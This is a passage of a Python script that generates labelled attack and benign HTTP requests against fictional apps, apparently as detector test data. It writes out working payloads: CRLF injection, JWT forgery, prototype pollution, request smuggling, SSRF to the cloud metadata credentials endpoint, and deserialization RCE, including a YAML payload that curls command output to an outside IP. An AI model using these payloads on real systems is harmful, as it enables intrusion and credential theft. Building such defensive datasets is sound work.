            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetBalance><account>&ent;</account></GetBalance></soap:Body></soap:Envelope>")
    out.append(A("xxe", method="POST", host=APPS["bank"]["host"], path="/legacy/BalanceService.asmx", body=soap, ctype="text/xml; charset=utf-8",
                 extra=[("SOAPAction", "\"http://coinpurse.eu/GetBalance\"")], client="dalvik"))
    return out


# ---------------------------------------------------------------------------
# attacks: CRLF, open redirects, JWT tampering, mass assignment, misc
# ---------------------------------------------------------------------------

@attack_gen
def a_crlf(r):
    out = []
    cases = [("auth.ridely.app", "/oauth/callback", "redirect_uri", "ridely://login\r\nSet-Cookie: session=attacker; Domain=.ridely.app"),
             ("links.snackr.io", "/resolve", "link", "https://snackr.io/r/abc\r\nLocation: https://evil.tld/"),
             ("go.chatterly.app", "/r/x7Hq2", "next", "/home\r\nX-Injected: 1"),
             ("go.marketly.com", "/promo", "utm_source", "push\r\n\r\n<script>alert(document.domain)</script>"),
             ("api.ridely.app", "/v1/strings", "lang", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"),
             ("api.shutterbox.co", "/v2/media/download", "filename", "report.pdf\r\nContent-Disposition: attachment; filename=evil.html"),
             ("links.pulsefit.com", "/resolve", "link", "pulsefit://workout/1\nSet-Cookie: admin=1")]
    for host, path, p, v in cases:
        out.append(A("crlf", method="GET", host=host, path=path, params={p: v, "src": "push"}, auth=False, client=r.choice(["ios-cf", "browser", "android"])))
    # pre-encoded variants the client passes through verbatim
    out.append(A("crlf", method="GET", host="go.ridely.app", path="/r/abc", raw_query="redirect=%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", auth=False, client="browser"))
    out.append(A("crlf", method="GET", host="links.chatterly.app", path="/open", raw_query="url=%250d%250aSet-Cookie:%2520sid%3Devil", auth=False, client="browser"))
    out.append(A("crlf", method="GET", host="api.snackr.io", path="/v1/deeplinks/redirect", raw_query="to=snackr://home%0d%0aLocation:%20javascript:alert(1)", client="rn-android"))
    return out


@attack_gen
def a_open_redirect(r):
    out = []
    for v in ["https://evil.tld/login", "//evil.tld/%2f..", "https:evil.tld", "/\\evil.tld", "https://ridely.app.evil.tld/",
              "https://ridely.app@evil.tld/", "javascript:alert(document.cookie)//ridely.app"]:
        out.append(A("generic", method="GET", host="auth.ridely.app", path=r.choice(["/oauth/authorize", "/logout", "/r"]),
                     params={"client_id": "com.ridely.passenger", "redirect_uri": v, "state": alnum(r, 16)}, auth=False, client="browser"))
    return out


@attack_gen
def a_jwt_tamper(r):
    out = []
    app = APPS["bank"]
    for alg in ["none", "None", "nOnE"]:
        tok = jwt(r, app, header={"alg": alg, "typ": "JWT"}, claims={"role": "admin", "sub": "1"}, sig=False)
        out.append(A("generic", method="GET", host=app["host"], path="/v1/accounts", auth="Bearer " + tok))
    tok = jwt(r, app, header={"alg": "HS256", "typ": "JWT", "jwk": {"kty": "oct", "k": b64u(b"attacker-secret")}}, claims={"role": "admin"})
    out.append(A("generic", method="POST", host=app["host"], path="/v1/transfers", body={"amount": 99999, "to": "DE89370400440532013000"}, auth="Bearer " + tok))
    return out


@attack_gen
def a_mass_assign(r):
    out = []
    bodies = [{"displayName": "Anna", "isAdmin": True}, {"bio": "hi", "role": "admin"}, {"displayName": "x", "roles": ["ROLE_ADMIN", "ROLE_SUPERUSER"]},
              {"__proto__": {"isAdmin": True}}, {"constructor": {"prototype": {"role": "admin"}}},
              {"email": "me@x.com", "emailVerified": True, "subscription": {"plan": "pro", "expiresAt": "2099-12-31T00:00:00Z"}, "walletBalance": 999999}]
    for b in bodies:
        app = pick_app(r)
        out.append(A("generic", method="PATCH", host=app["host"], path="/v1/me/profile", body=b))
    out.append(A("generic", method="POST", host=APPS["shop"]["host"], path="/v1/auth/register",
                 body={"email": "new@x.com", "password": "Passw0rd!", "user": {"is_staff": True, "permissions": ["*"]}}, auth=False))
    return out


@attack_gen
def a_deser_misc(r):
    out = []
    out.append(A("generic", method="POST", host=APPS["fit"]["host"], path="/v1/config/import",
                 body="plan: !!python/object/apply:os.system ['curl http://203.0.113.7/$(id)']\n", ctype="application/x-yaml", client="browser"))
    out.append(A("generic", method="POST", host=APPS["chat"]["host"], path="/v1/session/restore",
                 body={"state": "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){});}()\"}"}, client="rn-android"))
    out.append(A("generic", method="POST", host=APPS["ride"]["host"], path="/v1/preferences/import",
                 body="--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n      socket: &1 !ruby/object:Gem::RequestSet\n        sets: !ruby/object:Net::WriteAdapter\n          socket: !ruby/module 'Kernel'\n          method_id: :system\n        git_set: id\n      method_id: :resolve\n",
                 ctype="application/x-yaml", client="ios"))
    out.append(A("generic", method="POST", host=APPS["food"]["host"], path="/v1/cart/restore",
                 body={"cart": b64(b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."), "format": "pickle"}))
    return out


# ---------------------------------------------------------------------------
# attacks: protocol (smuggling and framing oddities), scanners
# ---------------------------------------------------------------------------

def raw_req(lines, body=b""):
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


@attack_gen
def a_protocol(r):
    out = []
    ua = "Ridely/6.14.2 (com.ridely.passenger; build:61402; Android 14; Pixel 8) okhttp/4.12.0"
    tok = "Bearer " + jwt(r, APPS["ride"])
    smug = b"0\r\n\r\nGET /v1/admin/users?export=all HTTP/1.1\r\nHost: api.ridely.app\r\nX-Ignore: X"
    out.append(A("protocol", raw=raw_req(["POST /v1/location/batch HTTP/1.1", "Host: api.ridely.app", "Authorization: " + tok, "Content-Type: application/json",
                                          "Content-Length: %d" % len(smug), "Transfer-Encoding: chunked", "User-Agent: " + ua], smug)))
    body = b'{"points":[]}'
    out.append(A("protocol", raw=raw_req(["POST /v1/location/batch HTTP/1.1", "Host: api.ridely.app", "Content-Type: application/json", "Content-Length: %d" % len(body),
                                          "Content-Length: 0", "User-Agent: " + ua], body)))
    ch = b"d\r\n" + body + b"\r\n0\r\n\r\n"
    for te in ["Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding: chunked\r\nTransfer-encoding: identity",
               "Transfer-Encoding:\r\n chunked", "Transfer-Encoding: \x0bchunked"]:
        out.append(A("protocol", raw=raw_req(["POST /v1/events HTTP/1.1", "Host: events.snackr.io", "Content-Type: application/json", "Content-Length: 4", te,
                                              "User-Agent: Dart/3.3 (dart:io)"], ch)))
    smug2 = b"0\r\n\r\nPOST /v1/admin/refunds HTTP/1.1\r\nHost: localhost\r\nContent-Length: 40\r\n\r\n{\"order\":\"ord_1\",\"amount\":99999}"
    out.append(A("protocol", raw=raw_req(["POST /v1/orders HTTP/1.0", "Host: api.snackr.io", "Transfer-Encoding: chunked", "Content-Type: application/json",
                                          "User-Agent: okhttp/4.9.2"], smug2)))
    out.append(A("protocol", raw=raw_req(["GET /v1/feed HTTP/1.1", "Host: api.chatterly.app", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
                                          "Connection: Upgrade, HTTP2-Settings", "User-Agent: okhttp/4.12.0"])))
    out.append(A("protocol", raw=raw_req(["GET http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1", "Host: 169.254.169.254",
                                          "User-Agent: Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240405.002)"])))
    out.append(A("protocol", raw=raw_req(["GET /v1/me HTTP/1.1", "Host: api.marketly.com", "Host: internal-admin.marketly.svc", "Authorization: " + tok,
                                          "User-Agent: Marketly/12030005 CFNetwork/1494.0.7 Darwin/23.4.0"])))
    out.append(A("protocol", raw=raw_req(["POST /v1/telemetry HTTP/1.1", "Host: sync.pulsefit.com", "Content-Type: application/x-msgpack", "Content-Length: -1",
                                          "User-Agent: PulseFit/4410 CFNetwork/1494.0.7 Darwin/23.4.0"], msgpack({"v": 2}))))
    return out


SCANNER_UAS = ["sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
               "Fuzz Faster U Fool v2.1.0-dev", "gobuster/3.6", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000231)",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "feroxbuster/2.10.2", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
               "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
               "Arachni/v1.5.1", "commix/v3.9-stable (https://commixproject.com)"]


@attack_gen
def a_scanner(r):
    out = []
    for i, ua in enumerate(SCANNER_UAS):
        app = pick_app(r)
        k = i % 3
        if k == 0:
            path, params = "/v1/users/%d" % (1000 + i), {"fields": "email,phone,address"}
        elif k == 1:
            path, params = "/v1/orders/%d" % (480000 + i * 7), None
        else:
            path, params = "/v3/attachments/att_%06d" % (i * 13), {"download": 1}
        out.append(A("scanner", method="GET", host=app["host"], path=path, params=params, client="bare", extra=[("User-Agent", ua), ("Accept", "*/*")],
                     auth="Bearer " + jwt(r, app)))
    out.append(A("scanner", method="GET", host=APPS["ride"]["host"], path="/v1/users/1001", client="android",
                 extra=[("X-Scanner", "Netsparker"), ("Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)")]))
    out.append(A("scanner", method="GET", host=APPS["shop"]["host"], path="/.env", client="bare", auth=False,
                 extra=[("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 zgrab/0.x")]))
    return out


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write(__doc__.split("How to run")[1].split("Each output")[0])
        sys.exit(2)
    if sys.argv[1] == "stats":
        from collections import Counter
        a, b = attacks(), benign()
        sys.stderr.write("attacks %d %s\n" % (len(a), dict(Counter(x["category"] for x in a).most_common())))
        sys.stderr.write("benign %d %s\n" % (len(b), dict(Counter(x["category"] for x in b).most_common())))
        ids = [x["id"] for x in a + b]
        assert len(ids) == len(set(ids)), "duplicate ids"
        return
    for d in (attacks() if sys.argv[1] == "attacks" else benign()):
        sys.stdout.write(json.dumps(d, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
